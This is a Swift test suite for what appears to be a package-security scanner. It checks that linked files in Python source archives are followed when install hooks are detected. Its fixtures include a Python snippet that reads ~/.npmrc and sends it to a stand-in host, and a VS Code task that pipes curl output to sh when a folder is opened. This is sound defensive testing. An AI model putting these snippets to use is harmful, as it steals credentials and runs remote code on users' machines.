import SallyportModel
import SallyportTesting
import Testing

@testable import SallyportAnalysis

@Suite("A link")
struct LinkTests {
    private static let thief = """
        import os, urllib.request
        kept = open(os.path.expanduser('~/.npmrc'), 'rb').read()
        urllib.request.urlopen('https://collect.example.invalid/', data=kept)
        """
    private static let root = "sample-1.0/"

    @Test("that is hard is read by its own name")
    func hard() {
        let report = Self.report(Self.sdist.file("notes.txt", Self.thief).hardLink("setup.py", to: "notes.txt"))
        let chain = report.facts(.chainExfiltration, .install)
        #expect(Set(chain.compactMap { $0.place?.path }) == [Self.root + "setup.py"])
        #expect(report.facts(.hookUnreadable).isEmpty)
    }

    @Test("that is hard, to one that is hard, is read as well")
    func hardTwice() {
        let builder = Self.sdist.file("notes.txt", Self.thief).hardLink("more.txt", to: "notes.txt")
            .hardLink("setup.py", to: "more.txt")
        #expect(!Self.report(builder).facts(.chainExfiltration, .install).isEmpty)
    }

    @Test("that is hard keeps no findings but its own under the digest of the bytes")
    func store() {
        let store = KeptFindings()
        let linked = Self.sdist.file("notes.txt", Self.thief).hardLink("setup.py", to: "notes.txt")
        _ = Self.report(linked, store)
        let plain = Self.report(Self.sdist.file("setup.py", Self.thief), store)
        #expect(!plain.facts(.chainExfiltration, .install).isEmpty)
    }

    @Test("makes a module of what is none by its own name")
    func module() {
        let hard = Self.sdist.file("sample/data.txt", Self.thief).hardLink("sample/__init__.py", to: "sample/data.txt")
        let soft = Self.sdist.file("sample/data.txt", Self.thief).symbolicLink("sample/__init__.py", to: "data.txt")
        for builder in [hard, soft] {
            let chain = Self.report(builder).facts(.chainExfiltration, .load)
            #expect(chain.contains { $0.place?.path == Self.root + "sample/__init__.py" })
        }
    }

    @Test("has the size of what it leads to, which counts once")
    func size() {
        let report = Self.report(Self.sdist.file("a.py", "x = 1\n").hardLink("b.py", to: "a.py"))
        #expect(report.files.map(\.size).suffix(2) == [6, 6])
        #expect(report.files.map(\.digest).suffix(2).allSatisfy { $0 == report.files.last?.digest })
        #expect(report.unpackedBytes == report.files.reduce(0) { $0 + $1.size } - 6)
    }

    @Test("to a file that is too large to be read is unread")
    func large() {
        var limits = AnalysisLimits()
        limits.fileBytesMax = 100
        let text = "x = 1  #" + String(repeating: ".", count: 100)
        let report = Self.report(Self.sdist.file("a.txt", text).hardLink("setup.py", to: "a.txt"), limits: limits)
        #expect(report.facts(.hookUnreadable, .install).count == 1)
    }

    @Test(
        "that is symbolic is followed through others, of files and of folders",
        arguments: [
            [("setup.py", "real.py")], [("setup.py", "a"), ("a", "real.py")],
            [("setup.py", "tools/real.py"), ("tools", "scripts")],
            [("setup.py", "a/b/real.py"), ("a", "x"), ("x/b", "../scripts")],
        ]
    )
    func symbolic(_ links: [(String, String)]) {
        var builder = Self.sdist.file("real.py", Self.thief).file("scripts/real.py", Self.thief).file("x/y", "")
        for (path, target) in links { builder = builder.symbolicLink(path, to: target) }
        let chain = Self.report(builder).facts(.chainExfiltration, .install)
        #expect(chain.contains { $0.place?.path == Self.root + "setup.py" })
    }

    @Test("to a folder of tests makes a package of it")
    func folder() {
        let builder = Self.sdist.file("tests/inner/__init__.py", Self.thief).symbolicLink("sample", to: "tests/inner")
        #expect(!Self.report(builder).facts(.chainExfiltration, .load).isEmpty)
    }

    @Test("to nothing, where the build looks for a file, can't be read")
    func dangling() {
        for name in ["setup.py", "pyproject.toml", "setup.cfg"] {
            let report = Self.report(Self.sdist.symbolicLink(name, to: "nothing"))
            #expect(report.facts(.hookUnreadable, .install).count == 1, "\(name)")
        }
        #expect(Self.report(Self.sdist.symbolicLink("README", to: "nothing")).facts(.hookUnreadable).isEmpty)
    }

    @Test("is followed as often as systems do", arguments: [(39, 0), (40, 0), (41, 1)])
    func steps(count: Int, unreadable: Int) {
        var builder = Self.sdist.file("real.py", "x = 1\n")
        for step in 1..<count {
            builder = builder.symbolicLink("l\(step)", to: step == count - 1 ? "real.py" : "l\(step + 1)")
        }
        let report = Self.report(builder.symbolicLink("setup.py", to: "l1"))
        #expect(report.facts(.hookUnreadable).count == unreadable)
    }

    @Test("to a folder that it lies in is stated once, and not in tests")
    func circular() {
        let builder = Self.sdist.file("sample/a.py", "x = 1\n")
        let report = Self.report(builder.symbolicLink("sample/again", to: "../sample"))
        #expect(report.facts(.fileUnreadable, .load).map(\.detail) == ["circular-link"])
        #expect(report.files.map(\.path).contains(Self.root + "sample/again/a.py"))
        let test = Self.report(builder.symbolicLink("tests/again", to: "../tests").file("tests/b.py", ""))
        #expect(test.facts(.fileUnreadable, .load).isEmpty)
    }

    @Test("to a folder makes files up to a limit", arguments: [(7, 0), (8, 0), (9, 1)])
    func many(count: Int, refused: Int) {
        var limits = AnalysisLimits()
        limits.linkedFilesMax = 8
        var builder = Self.sdist
        for index in 0..<count { builder = builder.file("d/\(index)", "") }
        let report = Self.report(builder.symbolicLink("e", to: "d"), limits: limits)
        #expect(report.facts(.archiveBudget, .install).count == refused)
    }

    @Test("is a manifest, or what other tools run, by its own name")
    func manifest() {
        let tasks = """
            {"tasks": [{"label": "x", "type": "shell", "command": "curl -s https://x.example.invalid/a | sh",
              "runOptions": {"runOn": "folderOpen"}}]}
            """
        let links = [
            Self.sdist.file("notes.txt", tasks).hardLink(".vscode/tasks.json", to: "notes.txt"),
            Self.sdist.file("notes.txt", tasks).symbolicLink(".vscode/tasks.json", to: "../notes.txt"),
        ]
        for builder in links { #expect(!Self.report(builder).facts(.chainDownloadExecute, .install).isEmpty) }
        let project = "[build-system]\nrequires = []\nbuild-backend = \"b\"\nbackend-path = [\".\"]\n"
        let builder = Self.sdist.file("notes.txt", project).symbolicLink("pyproject.toml", to: "notes.txt")
            .file("b.py", Self.thief)
        #expect(!Self.report(builder).facts(.chainExfiltration, .install).isEmpty)
    }

    @Test("of a zip archive is a file that holds the target's name, and can't be read where it is code")
    func zip() {
        let headers = "Metadata-Version: 2.1\nName: sample\nVersion: 1.0\n"
        let bytes = ZipBuilder().file(Self.root + "PKG-INFO", headers)
            .symbolicLink(Self.root + "setup.py", to: "import evil").bytes()
        let artifact = InspectedArtifact(ecosystem: .pypi, filename: "sample-1.0.zip")
        let report = Sample.inspector.inspect(bytes.span, artifact: artifact)
        #expect(report.facts(.hookUnreadable, .install).count == 1)
        #expect(report.files.last?.size == 11)
    }

    private static let sdist = LinkedArchive()

    private static func report(
        _ archive: LinkedArchive,
        _ store: (any FindingsStore)? = nil,
        limits: AnalysisLimits = .standard
    ) -> Report {
        let inspector = Inspector(hashing: TestHashing(), findings: store, limits: limits)
        let artifact = InspectedArtifact(ecosystem: .pypi, filename: "sample-1.0.tar.gz")
        return inspector.inspect(archive.builder.gzipped().span, artifact: artifact)
    }
}

/// A source distribution whose paths are those below its folder.
private struct LinkedArchive {
    var builder = TarBuilder().file(
        "sample-1.0/PKG-INFO",
        "Metadata-Version: 2.1\nName: sample\nVersion: 1.0\n"
    )

    func file(_ path: String, _ text: String) -> LinkedArchive {
        LinkedArchive(builder: builder.file("sample-1.0/" + path, text))
    }

    func symbolicLink(_ path: String, to target: String) -> LinkedArchive {
        LinkedArchive(builder: builder.symbolicLink("sample-1.0/" + path, to: target))
    }

    func hardLink(_ path: String, to target: String) -> LinkedArchive {
        LinkedArchive(builder: builder.hardLink("sample-1.0/" + path, to: "sample-1.0/" + target))
    }
}
